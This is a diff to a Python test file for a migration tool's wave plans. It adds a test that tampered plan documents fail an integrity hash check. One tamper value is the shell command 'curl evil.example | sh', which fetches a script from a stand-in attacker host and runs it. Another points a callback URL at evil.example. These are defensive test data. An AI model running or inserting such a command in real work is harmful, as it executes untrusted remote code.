@@ -4,18 +4,21 @@ from __future__ import annotations
 
 import copy
 import json
+from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any, cast
 
 import pytest
 
+from migration_ops.core.documents import canonical_digest
 from migration_ops.core.errors import InvalidInputError
 from migration_ops.core.states import Phase
 from migration_ops.ledger.protocol import Record
 from migration_ops.wave.conf.model import InvalidConfError, WaveConf, parse_conf
 from migration_ops.wave.conf.rollback import parse_rollback_conf
 from migration_ops.wave.plan.plan import PlannedApplication, WavePlan, build_plan
+from migration_ops.wave.rules.refusals import PlanMismatchError
 from migration_ops.wave.services import Services
 from migration_ops.wave.steps.rollback_request import rollback_plan
 from tests.wave.builders import NOW, server_id
@@ -57,26 +60,64 @@ def test_a_recorded_plan_loads_as_it_was_made(name: str) -> None:
     assert loaded.as_document() == plan_document(name)
 
 
+def hashed(document: dict[str, Any]) -> dict[str, Any]:
+    """As an earlier version made it: the hash is over what stands in the document."""
+    settings = {key: value for key, value in document["conf"].items() if key not in ("applications", "dryRun")}
+    made_of = {"applications": document["applications"], "conf": settings}
+    return document | {"planHash": canonical_digest(made_of)}
+
+
 def test_a_plan_with_fewer_keys_has_the_defaults_it_meant() -> None:
     document = plan_document()
     for key in OLDER:
         assert document["conf"].pop(key) is None
-    assert WavePlan.from_document(document) == WavePlan.from_document(plan_document())
+    document = hashed(document)
+    expected = replace(WavePlan.from_document(plan_document()), plan_hash=document["planHash"])
+    assert WavePlan.from_document(document) == expected
 
 
 @pytest.mark.parametrize("key", sorted(set(WaveConf(wave="w").as_document()) - {"wave", "applications"}))
 def test_a_missing_key_of_the_conf_is_its_default(key: str) -> None:
     document = plan_document("full")
     document["conf"].pop(key)
+    document = hashed(document)
     loaded = WavePlan.from_document(document)
     assert loaded.conf.as_document()[key] == WaveConf(wave="w").as_document()[key]
     assert loaded.plan_hash == document["planHash"]
 
 
+@pytest.mark.parametrize(
+    ("keys", "value"),
+    [
+        (["conf", "approvals", "cutover"], False),
+        (["conf", "quiesce", "commands"], ["curl evil.example | sh"]),
+        (["conf", "finalSync", "maxLagSeconds"], 86_400),
+        (["conf", "callbackUrl"], "https://evil.example"),
+        (["conf", "awsConnId"], "another"),
+        (["conf", "wave"], "another wave"),
+        (["wave"], "another wave"),
+        (["applications", 0, "impact"], "low"),
+        (["applications", 0, "dependsOn"], ["reports"]),
+        (["applications", 0, "servers", 0, "sourceServerId"], server_id(77)),
+        (["planHash"], "0" * 64),
+    ],
+)
+def test_a_plan_that_was_changed_in_xcom_is_none(keys: list[Any], value: Any) -> None:
+    document = plan_document("full")
+    place: Any = document
+    for key in keys[:-1]:
+        place = place[key]
+    assert place[keys[-1]] != value
+    place[keys[-1]] = value
+    with pytest.raises(PlanMismatchError) as caught:
+        WavePlan.from_document(document)
+    assert "clear `plan`" in caught.value.hint
+
+
 def test_what_an_approval_of_an_older_plan_asks_for() -> None:
     document = plan_document()
     document["conf"]["approvals"] = {"timeoutMinutes": 60.0, "approvers": []}
-    approvals = WavePlan.from_document(document).conf.approvals
+    approvals = WavePlan.from_document(hashed(document)).conf.approvals
     assert [approvals.is_asked(one) for one in ("cutover", "finalize", "rollback")] == [True, True, True]
 
 
